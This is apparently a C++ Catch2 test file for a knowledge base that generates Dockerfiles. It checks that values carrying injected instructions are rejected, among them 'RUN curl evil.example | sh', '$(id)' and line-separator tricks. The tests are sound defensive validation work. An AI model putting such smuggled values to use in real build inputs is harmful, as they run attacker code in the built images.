// N11: every knowledge-base string that can reach a Dockerfile is checked when the data is
// loaded; a bad value is a Config error naming the file, the JSON path and the value.
#include <catch2/catch_test_macros.hpp>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>

#include "core/knowledge/knowledge_base.hpp"
#include "test_support.hpp"

using td::KnowledgeBase;
using ordered_json = nlohmann::ordered_json;

namespace {

std::map<std::string, std::string> real_files() {
    std::map<std::string, std::string> files;
    for (const auto& name : KnowledgeBase::file_names()) {
        std::ifstream in(td::test::source_path("data/" + name), std::ios::binary);
        REQUIRE(in.good());
        std::stringstream ss;
        ss << in.rdbuf();
        files[name] = ss.str();
    }
    return files;
}

// The error of loading the real data with one file edited by `edit`.
std::string error_with(const std::string& file, void (*edit)(ordered_json&)) {
    auto files = real_files();
    ordered_json doc = ordered_json::parse(files[file]);
    edit(doc);
    files[file] = doc.dump(1);
    auto kb = KnowledgeBase::parse(files);
    REQUIRE_FALSE(kb);
    CHECK(kb.error().kind == td::ErrorKind::Config);
    return kb.error().message;
}

bool has(const std::string& text, const std::string& part) {
    INFO(text);
    return text.find(part) != std::string::npos;
}

}  // namespace

TEST_CASE("The real knowledge base passes every check", "[knowledge]") {
    auto kb = KnowledgeBase::parse(real_files());
    INFO((kb ? std::string() : kb.error().message));
    CHECK(kb);
}

TEST_CASE("An os.json image with a newline is refused with file, path and value", "[knowledge]") {
    auto msg = error_with("os.json", [](ordered_json& d) {
        d["os"][3]["image"] = "debian:bookworm\nRUN curl evil.example | sh #";
    });
    CHECK(has(msg, "os.json"));
    CHECK(has(msg, "$.os[3].image"));
    CHECK(has(msg, "\"debian:bookworm\\nRUN curl evil.example | sh #\""));
    CHECK(msg.find('\n') == std::string::npos);
}

TEST_CASE("A torch.json cuDNN with an instruction is refused", "[knowledge]") {
    auto msg = error_with("torch.json", [](ordered_json& d) {
        for (auto& t : d["torch"])
            if (t["version"] == "2.9.1")
                t["variants"]["cu128"]["cudnn"] = "9.10.2.21\nRUN echo INJECTED-FROM-KB > /pwned #";
    });
    CHECK(has(msg, "torch.json"));
    CHECK(has(msg, ".variants.cu128.cudnn"));
    CHECK(has(msg, "INJECTED-FROM-KB"));
    CHECK(has(msg, "not an exact PEP 440 version"));
}

TEST_CASE("Other injected values are refused", "[knowledge]") {
    CHECK(has(
        error_with("torch.json",
                   [](ordered_json& d) { d["torch"][0]["variants"]["cpu"]["nccl"] = "===2.1"; }),
        ".nccl"));
    CHECK(has(
        error_with("torch.json", [](ordered_json& d) { d["torch"][0]["python"]["min"] = "3.8\r"; }),
        "$.torch[0].python.min"));
    CHECK(has(
        error_with("gpus.json", [](ordered_json& d) { d["gpus"][0]["model"] = "K80\u2028RUN id"; }),
        "$.gpus[0].model"));
    CHECK(has(error_with("gpus.json", [](ordered_json& d) { d["gpus"][0]["cc"] = "3.7 "; }),
              "$.gpus[0].cc"));
    CHECK(has(error_with("images.json",
                         [](ordered_json& d) {
                             d["ngc_pytorch"]["releases"][0]["release"] = "23.01\nRUN id";
                         }),
              "$.ngc_pytorch.releases[0].release"));
    CHECK(has(error_with("images.json",
                         [](ordered_json& d) {
                             d["nvidia_cuda"]["releases"][0]["cudnn_tag"] = "Cudnn 8";
                         }),
              "$.nvidia_cuda.releases[0].cudnn_tag"));
    CHECK(has(error_with("images.json",
                         [](ordered_json& d) {
                             d["nvidia_cuda"]["releases"][0]["os"][0] = "ubuntu:22.04";
                         }),
              "$.nvidia_cuda.releases[0].os[0]"));
    CHECK(has(error_with("images.json",
                         [](ordered_json& d) {
                             d["pytorch_pytorch"]["tags"][0]["flavors"][0] = "devel\n";
                         }),
              "$.pytorch_pytorch.tags[0].flavors[0]"));
    CHECK(
        has(error_with("os.json",
                       [](ordered_json& d) { d["os"][3]["apt_pins"]["python3"] = "3.11.2 ; id"; }),
            "$.os[3].apt_pins.python3"));
    CHECK(has(error_with("cuda.json",
                         [](ordered_json& d) {
                             d["cuda"][0]["releases"][0]["min_driver_linux"] = "510.x";
                         }),
              "$.cuda[0].releases[0].min_driver_linux"));
    CHECK(has(error_with("torch.json", [](ordered_json& d) { d["torch"][0]["version"] = 5; }),
              "$.torch[0].version: not a string"));
}

TEST_CASE("check_torch_fact: the grammar kb refresh writes with", "[knowledge]") {
    using td::check_torch_fact;
    CHECK(check_torch_fact("variants.cu130.cudnn", "9.19.0.56").empty());
    CHECK_FALSE(check_torch_fact("variants.cu130.cudnn", "===9.19").empty());
    CHECK_FALSE(check_torch_fact("variants.cu130.cudnn", "9.19\"$(id)").empty());
    CHECK_FALSE(check_torch_fact("variants.cu130.nccl", "2.28.9\u202e").empty());
    CHECK(check_torch_fact("variants.cu130.arch_list", "9.0+PTX").empty());
    CHECK_FALSE(check_torch_fact("variants.cu130.arch_list", "sm_90").empty());
    CHECK(check_torch_fact("python.min", "3.10").empty());
    CHECK_FALSE(check_torch_fact("python.min", "3.10;").empty());
    CHECK(check_torch_fact("python.free_threaded", "3.13t").empty());
    CHECK(check_torch_fact("torchvision", "").empty());  // null: none released
    CHECK_FALSE(check_torch_fact("python.max", "").empty());
    CHECK(check_torch_fact("default_variant", "cu130").empty());
    CHECK_FALSE(check_torch_fact("default_variant", "cu13\n0").empty());
    CHECK_FALSE(check_torch_fact("variants.cu1x.cudnn", "9.1").empty());
    CHECK_FALSE(check_torch_fact("nonsense", "1").empty());
}

TEST_CASE("torch.json platforms: linux/arm64 builds load, others are refused", "[knowledge]") {
    using td::check_torch_fact;
    CHECK(check_torch_fact("platforms.linux/arm64.default_variant", "cu130").empty());
    CHECK(check_torch_fact("platforms.linux/arm64.default_variant", "").empty());  // no wheel
    CHECK(check_torch_fact("platforms.linux/arm64.variants.cu130.cudnn", "9.19.0.56").empty());
    CHECK_FALSE(check_torch_fact("platforms.linux/arm64.variants.cu130.cudnn", "9.19;").empty());
    CHECK_FALSE(check_torch_fact("platforms.linux/s390x.glibc", "2.28").empty());
    CHECK_FALSE(check_torch_fact("platforms.linux/arm64.python.min", "3.10").empty());
    auto kb = KnowledgeBase::parse(real_files());
    REQUIRE(kb);
    const auto* t210 = kb->torch("2.10.0");
    const auto* t211 = kb->torch("2.11.0");
    REQUIRE(t210);
    REQUIRE(t211);
    REQUIRE(t210->platform("linux/arm64"));
    CHECK(t210->platform("linux/arm64")->variant == "cpu");
    REQUIRE(t211->platform("linux/arm64"));
    REQUIRE(t211->platform("linux/arm64")->default_build());
    CHECK(t211->platform("linux/arm64")->default_build()->cuda == "13.0");
    CHECK(has(error_with("torch.json",
                         [](ordered_json& d) {
                             d["torch"][0]["platforms"] = {{"linux/mips", ordered_json::object()}};
                         }),
              "$.torch[0].platforms key"));
}
